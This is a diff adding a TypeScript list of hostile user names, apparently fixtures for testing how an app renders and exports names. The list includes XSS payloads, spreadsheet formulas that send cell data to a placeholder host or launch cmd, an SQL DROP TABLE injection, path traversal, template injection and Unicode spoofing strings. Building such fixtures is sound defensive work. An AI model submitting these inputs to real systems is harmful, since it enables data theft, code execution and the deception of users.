@@ -1,0 +1,21 @@
+/** Names that someone could give themselves to break a page, a spreadsheet or a reader's trust. */
+export const HOSTILE_NAMES: readonly string[] = [
+  '<img src=x onerror="window.hacked=1">',
+  '<script>window.hacked=2</script>',
+  '=HYPERLINK("https://example.invalid/?"&A1,"open")',
+  "+1+cmd|' /C calc'!A0",
+  '@SUM(1+1)*cmd',
+  '-2+3',
+  'Invoice \u202Efdp.exe',
+  '\u2066\u2067Two \u202Dnames\u202C in one\u2069',
+  'Zero\u200Bwidth\u200Djoiner\uFEFF',
+  '"; DROP TABLE contact; --',
+  '../../../../etc/passwd',
+  '{{constructor.constructor("window.hacked=3")()}}',
+  'javascript:alert(1)',
+  '__proto__',
+  '\u0000null\u0007bell',
+  `Long ${'name '.repeat(2_048)}`.slice(0, 10_240),
+  'Z̸̡̛̲̪͎̜͖̼̈́̾͗͐a̴̢̛̖̣̺͇̼͗̑̾̈l̵̡̧̛̖̤͚̈́̓̈́g̸̨̛̱̩̖̾̈́̒̈o̷̧̼̦̗͖̔̓̆̈́',
+  '👨‍👩‍👧‍👦'.repeat(60),
+];
